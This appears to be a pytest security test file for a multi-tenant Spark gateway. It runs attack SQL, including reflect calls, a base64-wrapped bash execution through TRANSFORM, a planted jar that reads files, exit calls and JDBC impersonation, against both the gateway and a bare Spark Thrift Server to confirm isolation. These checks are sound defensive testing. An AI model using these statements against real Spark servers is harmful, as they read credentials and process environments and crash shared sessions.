"""Rows E1 to E8: statements of a tenant whose engine runs any code. They are also run against a bare Spark Thrift Server on a
machine of the installation, and one table shows what each of them has reached.

The engine is a Spark in a pod, since local processes of one account can read each other's files. E8 has two Sparks of one
machine.
"""

import base64
import json
import pathlib
import shlex
import shutil
import urllib.parse
import uuid
import zipfile

import pytest
from py4j.java_gateway import JavaGateway
from pyhive.exc import Error
from thrift.transport.TTransport import TTransportException

from harness import spark
from harness.bare_spark import BareSpark
from harness.clients import pyhive_session, rows
from harness.cluster import Cluster
from harness.fixtures import started
from harness.java import OPTIONS, jars
from harness.tier import only_long
from harness.waiting import wait_until

WITHIN_S = 120
CLASS = """
public class Planted {
    public static String run(String path) {
        try {
            return new String(java.nio.file.Files.readAllBytes(java.nio.file.Paths.get(path, new String[0])));
        } catch (java.io.IOException error) {
            return "refused: " + error;
        }
    }
}
"""
# A file of the engine's own that each class and program can read.
OWN_FILE = "/etc/passwd"


@pytest.fixture(scope="module")
def shared_target(attacked_pods):
    return attacked_pods


@pytest.fixture(scope="module")
def shared_bare(workspace):
    yield from started(BareSpark(workspace / "bare-spark"))


@pytest.fixture
def bare(shared_bare):
    """It is started again after an attempt that ended it."""
    if not shared_bare.is_running():
        shared_bare.start()
    return shared_bare


@pytest.fixture(scope="module")
def table():
    return Table()


class Table:
    """What each row has reached: at the gateway, and at the bare server."""

    def __init__(self):
        self.lines = []

    def add(self, number, attempt, gateway, bare):
        self.lines.append((number, attempt, gateway, bare))

    def __str__(self):
        lines = [("row", "attempt", "gateway", "bare Spark Thrift Server"), *self.lines]
        widths = [max(len(it[column]) for it in lines) for column in range(4)]
        return "\n".join("  ".join(word.ljust(width) for word, width in zip(it, widths, strict=True)).rstrip() for it in lines)


class Attacker:
    """A session of one user. All that it has received, refusals included, is in `received`."""

    def __init__(self, session):
        self.session = session
        self.received = []

    def execute(self, statement):
        """The rows as text, or `None` if the statement is refused."""
        try:
            # PyHive can't read what Spark answers to other statements.
            read_by = rows if statement.startswith(("SELECT", "SHOW", "EXECUTE")) else spark.done
            got = json.dumps(read_by(self.session, statement), default=str)
        except Error as error:
            self.received.append(str(error))
            return None
        self.received.append(got)
        return got

    def shell(self, script):
        """What a program prints that the statement starts."""
        encoded = base64.b64encode(script.encode()).decode()
        program = f"cat >/dev/null; echo {encoded} | base64 -d | bash 2>&1; true"
        return self.execute(f"SELECT TRANSFORM('x') USING '{program}' AS (line STRING)") or ""

    def all(self):
        return "\n".join(self.received)


@pytest.fixture
def alice(target):
    with target.session("alice") as session:
        yield Attacker(session)


@pytest.fixture
def anyone(bare):
    with pyhive_session(bare.address, "alice") as session:
        yield Attacker(session)


def shows_nothing_secret(target, *attackers):
    text = "\n".join(it.all() for it in attackers)
    found = [secret[:4] for secret in target.secrets() if secret in text]
    assert not found, f"{len(found)} secrets were shown; they begin with {found}"


def read(attacker, paths, *sources):
    """How many of the files the attacker has read, each with one of the sources."""
    got = [[attacker.execute(it.format(path=path)) for it in sources] for path in paths]
    return sum(any(it not in (None, "[]") and "refused" not in it for it in each) for each in got)


FILE_SOURCES = ("SELECT value FROM text.`{path}`", "SELECT CAST(content AS STRING) AS c FROM binaryFile.`{path}`")


@only_long
def test_e1_environment_and_files_are_the_engines_own(target, alice, anyone, table):
    for it in (alice, anyone):
        for name in ("java.lang.System", "getenv"), ("java.lang.System", "getProperties"):
            assert it.execute(f"SELECT reflect('{name[0]}', '{name[1]}') AS e")
        assert read(it, [OWN_FILE], *FILE_SOURCES) == 1
    assert "ENGINEHOUSE" not in alice.all()
    ours, theirs = (read(it, target.files, *FILE_SOURCES) for it in (alice, anyone))
    shows_nothing_secret(target, alice)
    of = f"of {len(target.files)} files with keys and logins"
    assert (ours, theirs) == (0, len(target.files)), (ours, theirs)
    table.add("E1", "reflect, text., binaryFile.", f"own environment, {ours} {of}", f"{theirs} {of}")


# Environments are read of processes of this installation only: on a machine there are others.
SCRIPT = """
id -u
cat {files}
n=0
for it in /proc/[0-9]*; do
  n=$((n + 1))
  if grep -qaF {folder}/ $it/cmdline; then echo role: $(tr '\\0' ' ' <$it/cmdline); tr '\\0' '\\n' <$it/environ; fi
done
echo processes: $n of users $(stat -c %u /proc/[0-9]* | sort -nu)
tr '\\0' '\\n' </proc/self/environ
find {folder} | head -1000
cat /run/enginehouse/* /var/lib/enginehouse/*
"""


@only_long
def test_e2_a_program_of_a_statement_sees_its_own_container_only(target, alice, anyone, table):
    script = SCRIPT.format(files=shlex.join(map(str, target.files)), folder=shlex.quote(str(target.folder)))
    ours, theirs = (lines_of(it.shell(script)) for it in (alice, anyone))
    shows_nothing_secret(target, alice)
    assert ours[0] == str(spark.USER), ours[:3]
    [processes] = [it for it in ours if it.startswith("processes: ")]
    assert processes.endswith(f" of users {spark.USER}"), processes
    assert not [it for it in ours if it.startswith(("role: ", "ENGINEHOUSE"))], ours
    roles = [it for it in theirs if it.startswith("role: ")]
    shown = [it for it in target.secrets() if it in anyone.all()]
    assert len(roles) >= len(target.cluster.programs) and len(shown) >= len(target.files), (len(roles), len(shown))
    gateway = f"own container, {processes.split()[1]} processes"
    table.add("E2", "TRANSFORM … USING", gateway, f"{len(roles)} processes of roles and engines, {len(shown)} secrets")


def lines_of(shown):
    return [it["line"] or "" for it in json.loads(shown)]


@only_long
def test_e3_an_exit_ends_the_own_engine_only(target, bare, table):
    target.logs.allow("the engine failed reason=", "the engine ended", "engine lost while a statement was sent")
    first, other = target.engines["sales"], target.pod("finance")["metadata"]["uid"]
    with target.session("bob") as bob:
        rows(bob, "SET datafusion.execution.batch_size = 4097")
        with target.session("alice") as session:
            assert Attacker(session).execute("SELECT reflect('java.lang.System', 'exit', 7) AS e") is None
        reason = target.cluster.wait_ended(first)
        assert "7" in reason, reason
        assert rows(bob, "SELECT 40 + 2 AS answer") == [{"answer": 42}]
        assert rows(bob, "SHOW datafusion.execution.batch_size")[0]["value"] == "4097"
    assert target.pod("finance")["metadata"]["uid"] == other
    target.control.wait_another("sales", first, within_s=WITHIN_S)
    target.await_engine("sales")
    with pyhive_session(bare.address, "bob") as bob, pyhive_session(bare.address, "alice") as session:
        assert rows(bob, "SELECT 1 AS one") == [{"one": 1}]
        with pytest.raises((Error, TTransportException, OSError, EOFError)):
            rows(session, "SELECT reflect('java.lang.System', 'exit', 7) AS e")
        wait_until(lambda: not bare.is_running(), WITHIN_S, "the bare server has ended")
        with pytest.raises((Error, TTransportException, OSError, EOFError)):
            rows(bob, "SELECT 1 AS one")
    table.add("E3", "exit(7)", "own engine, which is replaced", "the sessions of all users")


@only_long
def test_e4_local_directories_are_the_engines_own(target, alice, anyone, table):
    name = f"planted-{uuid.uuid4().hex[:8]}"
    folders = [target.cluster.keys.files, target.files[-1].parent, target.folder]

    def write(attacker, folder):
        statements = (
            f"INSERT OVERWRITE LOCAL DIRECTORY '{folder}/{name}' USING csv SELECT 'planted' AS a",
            f"INSERT OVERWRITE DIRECTORY 'file:{folder}/{name}-2' USING csv SELECT 'planted' AS a",
            f"CREATE TABLE planted_{uuid.uuid4().hex[:8]} USING csv LOCATION 'file:{folder}/{name}-3' AS SELECT 'planted' AS a",
        )
        return sum(attacker.execute(it) is not None for it in statements)

    ours = [write(alice, it) for it in (*folders, f"{spark.HOME}/jars", "/etc")]
    own = write(alice, "/tmp")
    assert (ours, own) == ([0] * 5, 3), (ours, own)
    assert not [it for folder in (*folders, pathlib.Path("/tmp")) for it in folder.glob(f"{name}*")]
    theirs = [write(anyone, it) for it in folders]
    planted = [it for folder in folders for it in folder.glob(f"{name}*")]
    for it in planted:
        shutil.rmtree(it)
    assert theirs == [3] * 3 and len(planted) == 9, (theirs, planted)
    table.add("E4", "local directories", "/tmp of its container", f"{len(planted)} folders beside keys and other engines")


@pytest.fixture(scope="module")
def jar(workspace):
    """A jar with the class, compiled by what Spark ships."""
    gateway = JavaGateway.launch_gateway(classpath=jars(), javaopts=OPTIONS, die_on_exit=True, enable_auth=True)
    try:
        compiler = gateway.jvm.org.codehaus.janino.SimpleCompiler()
        compiler.cook(CLASS)
        code = dict(compiler.getBytecodes())["Planted"]
    finally:
        gateway.shutdown()
    path = workspace / "planted.jar"
    with zipfile.ZipFile(path, "w") as made:
        made.writestr("Planted.class", bytes(code))
    return path


@only_long
def test_e5_a_planted_class_reaches_what_its_engine_may(target, alice, anyone, jar, table):
    encoded = base64.b64encode(jar.read_bytes()).decode()
    call = "SELECT reflect('Planted', 'run', '{path}') AS e"
    # Spark only logs that it cannot read a jar.
    alice.execute(f"ADD JAR '{jar}'")
    assert read(alice, [OWN_FILE], call) == 0, "a jar of this machine was loaded"
    alice.shell(f"echo {encoded} | base64 -d >/tmp/planted.jar")
    for it, path in ((alice, "/tmp/planted.jar"), (anyone, jar)):
        it.execute(f"ADD JAR '{path}'")
        it.execute("CREATE TEMPORARY FUNCTION planted AS 'Planted'")
        assert read(it, [OWN_FILE], call) == 1, it.all()
    ours, theirs = (read(it, target.files, call) for it in (alice, anyone))
    shows_nothing_secret(target, alice)
    of = f"of {len(target.files)} files with keys and logins"
    assert (ours, theirs) == (0, len(target.files)), (ours, theirs)
    table.add("E5", "ADD JAR, classes", f"own engine, {ours} {of}", f"{theirs} {of}")


def view(url, user, **options):
    words = {"url": url, "driver": "org.apache.hive.jdbc.HiveDriver", "user": user, "dbtable": "(SELECT 'reached' AS r) t"}
    listed = ", ".join(f"{key} {json.dumps(value)}" for key, value in (words | options).items())
    return f"CREATE OR REPLACE TEMPORARY VIEW reached USING jdbc OPTIONS ({listed})"


@only_long
def test_e6_a_jdbc_source_opens_no_session_of_others(target, bare, alice, anyone, table):
    """Hive's driver, which Spark ships. The tests' pods reach every port; policies leave them ZooKeeper's (D13)."""
    ports = {
        **target.cluster.addresses,
        "the engine of finance": f"{target.pod('finance')['status']['podIP']}:10021",
        "database": "{0.hostname}:{0.port}".format(urllib.parse.urlsplit(target.cluster.database.url)),
        "ZooKeeper": target.cluster.connect,
        "API server": target.pods.kubernetes.address,
    }
    opened = [(name, user) for name, address in ports.items() for user in ("bob", "admin") if reached(alice, address, user)]
    assert opened == [], opened
    shows_nothing_secret(target, alice)
    own = reached(alice, f"127.0.0.1:{target.cluster.settings['spark']['port']}", "alice")
    assert own and reached(anyone, bare.address, "bob")
    table.add("E6", "JDBC source", f"own engine, 0 of {len(ports)} ports", "a session as bob, without a password")


def reached(attacker, address, user):
    """Whether a view over a JDBC source is made, which opens a session there as that user and runs a query for its columns."""
    options = {"url": f"jdbc:hive2://{address}/", "driver": "org.apache.hive.jdbc.HiveDriver", "user": user}
    options |= {"dbtable": "(SELECT 'reached' AS r) t"}
    listed = ", ".join(f"{key} {json.dumps(value)}" for key, value in options.items())
    return attacker.execute(f"CREATE OR REPLACE TEMPORARY VIEW reached USING jdbc OPTIONS ({listed})") is not None


@only_long
def test_e7_execute_immediate_is_the_engines_own(target, alice, anyone, table):
    """Spark 3.5 has no such statement; where it exists it is one of the engine, and no control statement."""
    engine = target.engines["finance"]
    has = [it.execute("EXECUTE IMMEDIATE 'SELECT 41 + 1 AS a'") for it in (alice, anyone)]
    statements = [it.format(path=path) for path in target.files for it in FILE_SOURCES]
    statements += ["DROP TENANT finance", f'STOP ENGINE finance_p "{engine}" FORCE', "START ENGINE finance"]
    ours = [it for it in statements if alice.execute(f"EXECUTE IMMEDIATE '{it}'") is not None]
    assert ours == [], ours
    shows_nothing_secret(target, alice)
    [row] = target.control.engines("finance")
    assert (row["engine"], row["state"]) == (engine, "ready"), row
    words = ["own engine" if it else "syntax error" for it in has]
    table.add("E7", "EXECUTE IMMEDIATE", words[0], words[1])


@pytest.fixture(scope="module")
def shared_cluster(workspace):
    """Two Sparks as local processes: the tests' pods have one loopback, and room for one there."""
    yield from started(Cluster(workspace / "sparks-of-attacks", spark=spark.on_this_machine()))


@only_long
def test_e8_global_views_are_the_tenants_own(cluster, control, bare, table):
    users = {"north": "nora", "south": "sam"}
    options = ", ENGINE_TYPE 'spark', MAX_EXECUTORS 0"
    links = [control.make(tenant, options=options, users=f"'{user}'") for tenant, user in users.items()]
    for link in links:
        control.start(*link, wait="5m")
    views = {"gateway": cluster.addresses["proxy-b"], "bare": bare.address}
    seen = {name: who_sees(address, *users.values()) for name, address in views.items()}
    for link in links:
        control.drop(*link)
    assert seen == {"gateway": ["nora"], "bare": ["nora", "sam"]}, seen
    table.add("E8", "global_temp", "own tenant", "all users")
    print(table)


def who_sees(address, maker, other):
    with pyhive_session(address, maker) as made:
        spark.done(made, "CREATE OR REPLACE GLOBAL TEMPORARY VIEW planted AS SELECT 42 AS answer")
        found = []
        for user in (maker, other):
            with pyhive_session(address, user) as session:
                it = Attacker(session)
                if it.execute("SELECT answer FROM global_temp.planted") == '[{"answer": 42}]':
                    found.append(user)
                assert ("planted" in (it.execute("SHOW VIEWS IN global_temp") or "")) == (user in found), it.all()
        return found
